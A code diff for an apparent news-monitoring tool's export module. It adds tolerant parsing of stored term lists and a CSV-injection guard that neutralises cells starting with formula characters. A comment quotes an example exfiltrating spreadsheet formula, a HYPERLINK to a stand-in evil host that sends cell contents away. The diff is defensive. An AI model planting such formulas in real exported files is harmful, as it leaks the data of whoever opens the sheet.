@@ -63,9 +63,23 @@ def queue_rows(db, status: str = "new", since: str | None = None) -> list[dict[s
     sql = f"SELECT {', '.join(COLUMNS)} FROM articles WHERE {' AND '.join(where)} ORDER BY {_ORDER}"
     rows = []
     for row in db.query(sql, {"status": status, "since": since}):
-        row["matched_terms"] = json.loads(row["matched_terms"] or "[]")
+        row["matched_terms"] = read_terms(row["matched_terms"])
         rows.append(row)
     return rows
+
+
+def read_terms(stored: Any) -> list[Any]:
+    """``matched_terms`` as stored (a JSON list) as a list; ``[]`` when unreadable.
+
+    The file is open to people (DB Browser for SQLite): one cell edited into something that is
+    not a JSON list must not fail the whole export. That article is exported with no terms, as
+    the desk shows it ("No topic term matched.").
+    """
+    try:
+        terms = json.loads(stored or "[]")
+    except (TypeError, ValueError):  # ValueError: not JSON, or a BLOB that is not UTF-8
+        return []
+    return terms if isinstance(terms, list) else []
 
 
 def one_line(value: Any, separator: str = " / ") -> Any:
@@ -76,18 +90,35 @@ def one_line(value: Any, separator: str = " / ") -> Any:
                           if part.strip())
 
 
+# CSV injection (OWASP): a spreadsheet runs a cell starting with one of these as a formula, and
+# titles, outlets and URLs come from crawled pages: =HYPERLINK("http://evil.example/?x="&A1,…)
+# would send the sheet's cells away when clicked. A leading ' makes the cell text.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def no_formula(value: Any) -> Any:
+    """A text cell a spreadsheet shows as text: ``'`` before a formula's first character.
+
+    Numbers (ids, scores: newsmon's own) are left alone, a negative score too.
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def write_csv(rows: Iterable[dict[str, Any]], out: IO[str]) -> None:
     """One header line, then exactly one line per article (``CSV_COLUMNS``).
 
     The evidence is readable text (``反撃能力 ×5: …snippet… | 安保 ×1: …``) and notes are joined
-    with " / ", so no cell holds a line break: tools that read CSV line by line stay right.
+    with " / ", so no cell holds a line break: tools that read CSV line by line stay right. A
+    text cell starting with ``= + - @``, a tab or a carriage return starts with ``'`` (``no_formula``).
     """
     writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n")
     writer.writeheader()
     for row in rows:
         cells = {k: one_line(row.get(k)) for k in CSV_COLUMNS}
         cells["evidence"] = one_line(row.get("evidence"), " | ")
-        writer.writerow(cells)
+        writer.writerow({k: no_formula(v) for k, v in cells.items()})
 
 
 def write_jsonl(rows: Iterable[dict[str, Any]], out: IO[str]) -> None:
